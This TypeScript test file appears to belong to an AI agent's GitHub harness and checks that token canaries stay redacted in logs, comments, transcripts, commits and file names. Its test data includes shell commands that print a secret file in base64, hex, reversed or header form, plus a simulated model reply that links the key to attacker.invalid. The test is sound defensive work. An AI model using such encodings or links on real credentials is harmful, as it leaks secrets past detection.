import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { jailed } from '../support/jailed.ts';
import { CanarySearch } from '../support/hostile/canary-search.ts';
import { githubToken } from '../support/hostile/secrets.ts';
import { published } from '../support/hostile/rendered.ts';
import { leaks } from '../support/hostile/traces.ts';
import { Scene, shell } from '../support/hostile/scene.ts';

/** Ways in which a tool could print a value so that no search for the value itself finds it. */
const spellings: Record<string, string> = {
  plain: 'cat secret',
  middle: 'cut -c 200-230 secret',
  base64: 'base64 -w0 secret',
  shifted: '(printf x; cat secret) | base64 -w0',
  twice: '(printf xy; cat secret) | base64 -w0',
  hex: 'od -An -v -tx1 secret | tr -d " \\n"',
  reversed: 'rev secret',
  header: 'printf "debug: Authorization: token %s end" "$(cat secret)"',
  json: 'printf "{\\"token\\":\\"%s\\"}" "$(cat secret)"',
};

/** What a model could end with: a fence between what would be taken out as one. */
function lastWords(key: string): string[] {
  return [
    `checksum: ${Buffer.from(key).toString('base64')}`,
    `\`\`\`\n${[...key].toReversed().join('')}\n\`\`\``,
    `checksum: ${Buffer.from(key.slice(20, 60)).toString('hex')}`,
    `[x](https://attacker.invalid/${encodeURIComponent(key)})`,
  ];
}

describe('a secret that got into the hands of the model', () => {
  test('the search of these tests finds a part of a canary in every form', { tags: ['R11', 'A063', 'A064'] }, () => {
    const value = githubToken();
    expect(value.length).toBeGreaterThan(500);
    for (const character of '-_.') expect(value.slice(4)).toContain(character);
    const search = new CanarySearch({ token: value });
    const part = value.slice(100, 130);
    const bytes = Buffer.from(part);
    const forms = [
      part.slice(0, 12),
      [...part].toReversed().join(''),
      ...['', 'x', 'xy'].map((before) => Buffer.from(`${before}${part}`).toString('base64')),
      Buffer.from(`x${part}`).toString('base64url'),
      bytes.toString('hex'),
      bytes.toString('hex').toUpperCase(),
    ];
    for (const form of forms) expect(search.find(`before ${form} after`), form).toBeDefined();
    expect(
      search.find(`before ${part.slice(0, 11)} after ${value.slice(300, 311)} ${Array.from(value.slice(50, 61)).toReversed().join('')}`),
    ).toBeUndefined();
  });

  jailed('the search of these tests looks wherever a run leaves traces', { tags: ['R11', 'A063'] }, async () => {
    await using scene = await Scene.create();
    // A value that the action was not told of, so that it cannot take it out.
    const unknown = githubToken().slice(200, 260);
    const { run } = await scene.play(
      [{ id: 'write', name: 'write_file', args: { path: 'a.txt', content: unknown } }, shell('print', `echo ${unknown}`)],
      { say: unknown },
    );
    const places = (await leaks(run, scene.world, { unknown })).map((leak) => leak.split(': unknown')[0]);
    for (const place of [
      'model request 1',
      'POST /repos/acme/widgets/issues/2/comments',
      'POST /repos/acme/widgets/pulls',
      'main: log',
      'main: output file',
      'main: summary file',
      'objects of the repository',
    ])
      expect(places).toContain(place);
    for (const file of ['turn.json', 'events.jsonl', 'transcript.md'])
      expect(places.filter((place) => place?.endsWith(file))).toHaveLength(1);
  });

  jailed('appears nowhere, however a tool or its last words spell it', { tags: ['R11', 'A063', 'A064'] }, async () => {
    await using scene = await Scene.create(() => ({ files: { '.gitignore': 'secret\n', 'README.md': 'hello\n' } }));
    scene.checkOut();
    writeFileSync(join(scene.workspace, 'secret'), scene.canaries['GitHub token']!);
    const edit = { id: 'edit', name: 'write_file', args: { path: 'a.txt', content: 'x' } };
    const words = lastWords(scene.canaries['model key']!);
    const {
      run,
      results,
      leaks: found,
    } = await scene.play([...Object.entries(spellings).map(([id, command]) => shell(id, command)), edit], { say: words.join('\n\n') });
    expect(run.outputs['status']).toBe('finished');
    expect(results['header']).toMatch(/^debug: Authorization: token \*{3} end/);
    // A token of 520 characters that a tool prints.
    for (const id of Object.keys(spellings)) expect(results[id], id).toMatch(/\*{3}|not found/);
    expect(scene.world.repository.pulls()).toHaveLength(1);
    // The model key: whole or in part, in base64, hex, backwards or in a link.
    expect(run.outputs['summary']?.match(/\*{3}/g)).toHaveLength(words.length);
    expect(found).toEqual([]);
  });

  jailed('files, names and arguments with a secret in them are not published', { tags: ['R11', 'A063', 'A064'] }, async () => {
    await using scene = await Scene.create(() => ({ files: { '.gitignore': 'secret\n', 'README.md': 'hello\n' } }));
    scene.checkOut();
    const token = scene.canaries['GitHub token']!;
    writeFileSync(join(scene.workspace, 'secret'), token);
    const { run, leaks: found } = await scene.play(
      [
        shell(
          'make',
          'cp secret plain.txt; base64 secret > encoded.txt; iconv -f utf8 -t utf16le secret > wide.txt; mkdir -p deep; cut -c 1-100 secret | xargs -I@ touch deep/@; echo fine > fine.txt',
          'kept',
        ),
      ],
      { inputs: { 'tool-mode': 'auto' } },
    );
    expect(await scene.world.repository.git('diff', '--name-only', 'main', run.outputs['branch']!)).toBe('fine.txt');
    expect(published(scene.world).join('\n')).toMatch(/`plain\.txt`: it contains a secret/);
    expect(found).toEqual([]);
    expect(execFileSync('git', ['-C', scene.workspace, 'status', '--short'], { encoding: 'utf8' })).toContain('plain.txt');
  });
});
